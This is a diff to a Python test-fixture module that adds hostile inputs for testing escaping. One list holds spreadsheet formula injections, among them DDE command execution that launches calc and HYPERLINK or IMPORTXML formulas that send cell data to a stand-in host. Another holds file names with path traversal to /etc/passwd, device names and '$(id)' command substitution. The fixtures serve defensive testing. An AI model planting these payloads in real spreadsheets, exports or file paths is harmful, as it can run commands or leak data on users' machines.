@@ -1,4 +1,4 @@
-"""Texts that try to become markup, attributes or script when they are shown on a page."""
+"""Texts that try to become something else: markup on a page, a formula in a spreadsheet, a path on a disk."""
 
 from __future__ import annotations
 
@@ -75,3 +75,27 @@ HOSTILE: tuple[str, ...] = (
     "<x" * 500,
     "<" * 2000,
 )
+
+#: Texts that a spreadsheet might run, follow, or turn into a number, a date or a truth.
+FORMULAS: tuple[str, ...] = (
+    "=1+1", '=HYPERLINK("http://x.example")', "+1", "-1", "@SUM(A1)", "\t=1", "http://x.example", "1e5", "007",
+    '=HYPERLINK("http://x.example/?"&A1,"c")', "=cmd|'/C calc'!A0", "=cmd|' /C calc'!'A1'",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML("http://x.example","//a")', '=IMPORTDATA("http://x.example")', '=IMAGE("http://x.example/a.png")',
+    '=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "=1+1\r\n=2+2", " =1+1", "\u200b=1+1", "\ufeff=1+1",
+    "\xa0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\n=1+1", "\r=1+1", "\r\n=1+1", "\t\t=1+1", "|calc", "%0A=1+1",
+    "=A1", "=$A$1", "={1,2}", "{=1+1}", "+A1+A2", "-A1", "=-1", "=+1", "+=1", "-=1", "'=1+1", "''=1+1", "'+1", "'abc",
+    "=file:///etc/passwd", "file:///etc/passwd", "mailto:a@example.org", "https://x.example/=1", '"=1+1"', ";=1+1",
+    ",=1+1", "=1+1;=2+2", "TRUE", "02134", "1/2", "2026-06-14", "#REF!", "=SUM(", "@", "=", "\x0b=1+1", "\u2028=1+1",
+)  # fmt: skip
+
+#: Last names that lead out of a folder, to another file of it, or to a device.
+FILE_NAMES: tuple[str, ...] = (
+    "../../etc/passwd", "/etc/passwd", "..", "", "a/b", "a\\b", "CON", "nul.txt", "x" * 300, "-rf", "dot.", "blank ",
+    "é", "e\u0301", "McDonald", "MCDONALD", "O’Brien", "Ñ", "李", "\u202eevil", "a\nb", "a\0b", "~", "$HOME", "%00",
+    "*", "?", "a:b", ".hidden", "a;b", "..\\..\\x", "C:\\x", "\\\\host\\share", "//host/share", "COM1", "LPT9.pdf",
+    "aux",
+    "PRN", "con.txt ", "...", ". .", "a" * 255, "é" * 200, "ﬁeld", "ſ", "İ", "ı", "ß", "SS", "Ｍ", "M", "manifest.csv",
+    "batch.json", ".writing-x", "letters", "a|b", "a<b>", 'a"b', "a&b", "`id`", "$(id)", "a\tb", "\x7f",
+    "\ufeffa", "%2e%2e",
+)  # fmt: skip
